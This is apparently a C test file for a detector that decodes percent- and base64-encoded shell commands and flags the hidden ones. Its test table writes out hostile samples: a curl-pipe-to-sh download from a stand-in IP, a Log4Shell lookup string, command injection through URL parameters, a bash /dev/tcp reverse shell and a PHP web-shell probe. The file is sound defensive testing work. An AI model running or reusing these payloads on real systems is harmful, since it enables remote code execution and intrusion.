// SPDX-License-Identifier: GPL-3.0-or-later
#include "hidden.h"

static const struct hidden good[] = {
	{ "percent", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"import urllib.parse as u;exec(u.unquote('curl%2"
		"0-s%20http%3A%2F%2F198.51.100.7%2Fx%7Csh'))\"" },
	{ "percent", "curl -s http://198.51.100.7/x|sh",
		"curl 'http://h/x\?c=%63%75%72%6c%20%2d%73%20%68%74%74%70%3a%"
		"2f%2f%31%39%38%2e%35%31%2e%31%30%30%2e%37%2f%78%7c%73%68'" },
	{ "percent", "${jndi:ldap://h/a}",
		"curl 'http://h/\?q=%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D'" },
	{ "percent", "id;cat /etc/issue",
		"curl 'http://h/c.php\?cmd=id%3Bcat%20%2Fetc%2Fissue'" },
	{ "percent", "sh -c 'id > /tmp/w'",
		"curl -d 'a=1&z0=sh+-c+%27id+%3E+%2Ftmp%2Fw%27' http://h/s" },
	{ "percent+percent", "bash -c 'id >& /dev/tcp/192.0.2.34/4445'",
		"curl 'http://h/v\?c=bash%2520-c%2520%2527id%2520%253E%2526%252"
		"0%252Fdev%252Ftcp%252F192.0.2.34%252F4445%2527'" },
	{ "percent+percent", "bash -c id",
		"curl 'http://h/\?x=%2562%2561%2573%2568%2520%252Dc%2520id'" },
	/* Not throughout. */
	{ "percent", "echo 100%25 %41%42",
		"curl 'http://h/\?cmd=echo%20100%2525%20%2541%2542'" },
	{ "percent+base64", "@ini_set('a','0');echo('->|');die();\n",
		"curl -d "
		"'z1=x&p=QGluaV9zZXQoJ2EnLCcwJyk7ZWNobygnLT58Jyk7ZGllKCk7Cg"
		"%3D%3D' http://h/s" },
};

static const char *const not [] = {
	"printf '%s\\0' a b | xargs -0",
	"date +%Y-%m-%dT%H:%M:%S",
	"git log '--pretty=%h %ad %ae %s'",
	"curl 'https://h/search\?q=hello%20world%2Fx%3Fy'",
	"curl http://h/a%20b%20c/%E4%BD%A0%E5%A5%BD",
	"curl -d 'grant_type=authorization_code&code=4%2F0AX4XfWj%2Bx' h",
	"curl 'http://h/\?sig=c2lnbmF0dXJl%2BAAECAwQFBgcICQ%3D%3D'",
	"curl 'http://h/\?next=https%253A%252F%252Fa.b%252Fl%253Fq%253Da'",
	"curl 'http://h/\?q=100%2525%2520b'",
	"awk '{printf \"%c %d\", $1, 42}'",
	"sed 's/%20/ /g'",
	"printf '%s\\n' hello",
	"curl http://h/%7Euser/%2Dfile",
	"ffmpeg -i a%03d.png b",
	"wget '--header=Accept: */*' 'http://h/x%5B0%5D=1&y%5B1%5D=2'",
};

static void pad(struct str *s, size_t n)
{
	for (size_t from = s->len; s->len < from + n;)
		str_addz(s, " d=1");
}

/* Two codes are hidden where a word that speaks of undoing them is near; parts
 * are asked by and by. */
static void test_near(void)
{
	static const char part[] = " id%3Bls%26", word[] = " unescape";
	static const struct {
		size_t before, between, behind;
		bool is_word_first, is_there;
	} rows[] = { { 0, 0, 0, false, true }, { 0, 8000, 0, false, true },
		{ 0, 8000, 30000, false, true },
		{ 20000, 8000, 0, false, true },
		{ 20000, 8000, 30000, false, true },
		{ 0, 20000, 0, false, false },
		{ 20000, 20000, 0, false, false }, { 0, 0, 0, true, true },
		{ 0, 8000, 0, true, true }, { 20000, 8000, 30000, true, true },
		{ 20000, 20000, 0, true, false } };
	struct str s;

	str_init(&s, 1 << 18);
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		bool is_word_first = rows[i].is_word_first;
		struct event *ev;

		check_start("%zu bytes, a %s, %zu, the other, %zu",
			rows[i].before, is_word_first ? "word" : "part",
			rows[i].between, rows[i].behind);
		str_reset(&s);
		str_addz(&s, "x -y \"x%3By");
		pad(&s, rows[i].before);
		str_addz(&s, is_word_first ? word : part);
		pad(&s, rows[i].between);
		str_addz(&s, is_word_first ? part : word);
		pad(&s, rows[i].behind);
		str_addz(&s, "\"");
		ev = hidden_run(s.p);
		if (rows[i].is_there)
			hidden_check(ev, "percent", "id;ls&");
		else
			hidden_none(ev);
		event_destroy(ev);
	}
	str_fini(&s);
}

int main(void)
{
	check.module = "percent";
	hidden_good(good, sizeof(good) / sizeof(good[0]));
	hidden_not(not, sizeof(not ) / sizeof(not [0]));
	test_near();
	return check_end();
}
